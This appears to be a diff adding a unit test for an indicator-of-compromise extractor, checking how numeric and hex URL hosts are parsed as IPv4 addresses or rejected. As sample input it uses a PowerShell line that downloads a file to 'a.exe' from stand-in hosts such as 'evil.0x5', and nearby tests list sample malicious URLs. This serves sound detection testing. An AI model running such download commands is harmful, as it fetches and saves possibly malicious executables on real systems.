@@ -101,6 +101,47 @@ test("a URL whose host is an IPv4 address in another notation is found whole, an
   assert.deepEqual(classifyIoc("http://127.1/"), { ioc: "http://127.1/", type: "url", safeIoc: "http://127.0.0.1/" });
 });
 
+// WHATWG URL (https://url.spec.whatwg.org/#concept-ipv4-parser): a host whose last label is a number (decimal, or 0x
+// and hex) is parsed as IPv4 only, and fails when a part is not a number, there are more than four parts, or a part
+// is too large. `http://0x1ffffffff/` and `http://1.2.3.4.0x5/x` were URLs (their hosts taken as names) though no
+// browser opens them; `new URL` is the oracle here.
+test("a host ending in a number is a URL only when WHATWG reads it as an IPv4 address; else there is no URL (nor dns)", () => {
+  const invalid = ["0x100000000", "0x1ffffffff", "4294967296", "99999999999", "1.2.3.256", "1.0x100.3.4", "1.2.3.4.0x5", "1.2.65536", "1.16777216", "08", "0x7f.0x1000000", "evil.0x5", "evil.09", "cafe.0x5", "\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45.0x5"];
+  for (const host of invalid) {
+    const url = `http://${host}/x`;
+    assert.throws(() => new URL(url), TypeError, url);
+    assert.deepEqual(iocs.extractText(`iwr ${url} -OutFile a.exe`), {}, url);
+    assert.equal(detectIocType(url), "unknown", url);
+    assert.equal(classifyIoc(url, "url").safeIoc, "", url);
+  }
+  // The edges that do parse: 2^32 - 1 whole, each short form's last part at its largest, `0x` alone (0),
+  // full-width digits (IDNA maps them first).
+  const valid: [string, string][] = [
+    ["4294967295", "255.255.255.255"],
+    ["0xffffffff", "255.255.255.255"],
+    ["037777777777", "255.255.255.255"],
+    ["1.16777215", "1.255.255.255"],
+    ["1.2.65535", "1.2.255.255"],
+    ["0x", "0.0.0.0"],
+    ["1.2.3.4.", "1.2.3.4"],
+    ["\uff11\uff12\uff17.\uff10.\uff10.\uff11", "127.0.0.1"],
+  ];
+  for (const [host, address] of valid) {
+    const url = `http://${host}/x`;
+    assert.equal(new URL(url).hostname, address, url);
+    const found = iocs.extractText(`iwr ${url} -OutFile a.exe`);
+    assert.deepEqual(found.url, [url], url);
+    assert.deepEqual(found.ipv4, [address], url);
+    assert.equal(detectIocType(url), "url", url);
+  }
+  // A last label that is no number leaves a name: hex-looking words, `0x` with a non-hex letter.
+  for (const host of ["0xbad.com", "deadbeef", "0xg", "1.2.3.4.x5"]) {
+    const url = `http://${host}/x`;
+    assert.equal(new URL(url).hostname, host, url);
+    assert.deepEqual(iocs.extractText(url).url, [url], url);
+  }
+});
+
 test("whole-value detection (IoCExtract.getIocType, TILookup) calls intranet URLs `url`", () => {
   for (const value of ["http://badhost/pwnme", "http://srv/file.sct", "hxxp://stager01[.]lan/a", "https://10.0.0.5:8443/x", "http://[fe80::1]/y"]) {
     assert.equal(classifyObservable(value), "url", value);
